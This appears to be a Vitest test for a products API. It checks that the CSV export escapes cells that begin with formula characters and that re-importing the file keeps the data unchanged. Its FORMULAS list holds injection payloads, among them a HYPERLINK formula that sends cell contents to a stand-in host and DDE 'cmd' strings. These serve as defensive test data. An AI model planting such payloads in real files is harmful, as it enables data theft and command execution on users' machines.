import { describe, expect, it } from 'vitest';
import { as, exportarProdutos, newOwner, type Owner } from '../../../test/support/api.js';

/**
 * Issue 24: a spreadsheet cell that starts with = + - @, a tab or a carriage return is a formula
 * to Excel, LibreOffice and Google Sheets. The products' export writes such text after an
 * apostrophe (shared escreverCsv), and its import reads the apostrophe back off.
 */
const FORMULAS = [
  '=HYPERLINK("https://malicioso.example/?x="&A1;"Clique")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3+cmd|x',
  '\tTAB',
  '=1+1',
];

async function exportar(owner: Owner): Promise<string> {
  const { response, bytes } = await exportarProdutos(owner);
  expect(response.status).toBe(200);
  return bytes.toString('utf8');
}

describe('Planilha de produtos: fórmulas', () => {
  it('when names and descriptions start like formulas, then every such cell is exported as text, and importing the export keeps them as typed', async () => {
    const owner = await newOwner();
    for (const [i, formula] of FORMULAS.entries()) {
      const response = await as(owner).post('/api/produtos', { nome: `${formula}`.trim() || `p${i}`, descricao: formula, preco: 1 });
      expect(response.status).toBe(201);
    }
    const antes = ((await as(owner).get('/api/produtos')).body as { id: string; nome: string; descricao: string }[]).map(
      ({ id, nome, descricao }) => ({ id, nome, descricao }),
    );

    const planilha = await exportar(owner);
    // Every cell, quoted or not: none starts with a formula character.
    const celulas = planilha
      .slice(1)
      .split('\r\n')
      .flatMap((linha) => linha.split(';'))
      .map((celula) => celula.replace(/^"/, ''));
    expect(celulas.filter((celula) => /^[=+\-@\t\r]/.test(celula))).toEqual([]);
    expect(planilha).toContain(`;'@SUM(1+1)*cmd|' /C calc'!A0;`);

    const reimportada = await as(owner)
      .post('/api/produtos/importar')
      .attach('arquivo', Buffer.from(planilha, 'utf8'), { filename: 'produtos.csv', contentType: 'text/csv' });
    expect(reimportada.status).toBe(200);
    expect(reimportada.body).toMatchObject({ criados: 0, erros: [] });
    const depois = ((await as(owner).get('/api/produtos')).body as { id: string; nome: string; descricao: string }[]).map(
      ({ id, nome, descricao }) => ({ id, nome, descricao }),
    );
    expect(depois).toEqual(antes);
  });
});
